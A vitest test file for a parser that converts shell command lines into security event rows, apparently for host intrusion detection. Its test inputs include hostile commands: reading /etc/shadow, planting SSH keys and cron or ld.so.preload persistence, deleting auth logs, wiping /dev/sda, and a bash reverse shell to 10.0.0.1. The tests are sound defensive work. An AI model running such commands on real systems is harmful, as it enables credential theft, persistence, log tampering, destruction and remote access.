import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { eventRow, noFacts } from '#schemas/events/rows.js';
import type { EventRow } from '#schemas/events/rows.js';
import { rowsOfLine } from './line-rows.js';

const base: EventRow = {
  session: '01m81gpp13j0br7sqn8qcecmxs', source: 'kernel', emitter: '', block: 0, index: 0, at: 0, offset_ms: 0, kind: 'exec', user: 'ann', node: 'web', login: 'ann', ...noFacts,
}; // prettier-ignore
const facts = (line: string): readonly string[] =>
  rowsOfLine(line, base).map(({ row, other }) =>
    [row.kind, row.kind === 'file' ? row.name : row.name, row.path, other?.path ?? ''].join(' '),
  );

describe('rows of a line', () => {
  it('are programs, with who starts them', () => {
    expect(facts('sudo id')).toEqual(['exec sudo id /usr/bin/sudo ', 'exec id /usr/bin/id /usr/bin/sudo']);
    expect(facts('history -c')).toEqual(['exec history -c builtin/history ']);
    expect(facts('./run')).toEqual(['exec ./run /run ', 'file open /home/ann/run /run'].slice(0, 1));
  });

  it.each([
    ['cat </etc/shadow', 'file open /etc/shadow'],
    ['cat /etc/shadow', 'file open /etc/shadow'],
    ['echo x >> ~/.ssh/authorized_keys', 'file open /home/ann/.ssh/authorized_keys'],
    ['echo x > /etc/cron.d/y', 'file create /etc/cron.d/y'],
    ['cd /etc && echo x > ld.so.preload', 'file create /etc/ld.so.preload'],
    ['cp /bin/sh /tmp/', 'file create /tmp/sh'],
    ['rm -f /var/log/auth.log', 'file unlink /var/log/auth.log'],
    ['chmod u+s /tmp/x', 'file chmod /tmp/x'],
    ['curl -o /tmp/x http://h', 'file create /tmp/x'],
    ['python3 -c "open(\'/etc/shadow\')"', 'file open /etc/shadow'],
    ['dd if=/dev/zero of=/dev/sda', 'file create /dev/sda'],
  ])('%s: %s', (line, expected) => {
    expect(facts(line).some((one) => one.startsWith(expected))).toBe(true);
  });

  it('are connections that a shell opens', () => {
    const connect = rowsOfLine('bash -i >& /dev/tcp/10.0.0.1/443 0>&1', base).find(({ row }) => row.kind === 'connect');
    expect(connect?.row).toMatchObject({ address: '10.0.0.1', port: 443, name: 'tcp' });
  });

  it('are rows, whatever the line', () => {
    const piece = fc.constantFrom(
      'cat ',
      '/etc/x ',
      '> ',
      '>>',
      '<',
      '/dev/tcp/a/99999 ',
      '| ',
      ';',
      '$(',
      ')',
      "'",
      '~/',
      '-o ',
      'rm ',
      'cp ',
      'a'.repeat(5_000),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 20 }), (pieces) => {
        for (const { row } of rowsOfLine(pieces.join(''), base))
          expect(eventRow.safeParse(row).success, JSON.stringify(row).slice(0, 300)).toBe(true);
      }),
    );
  });
});
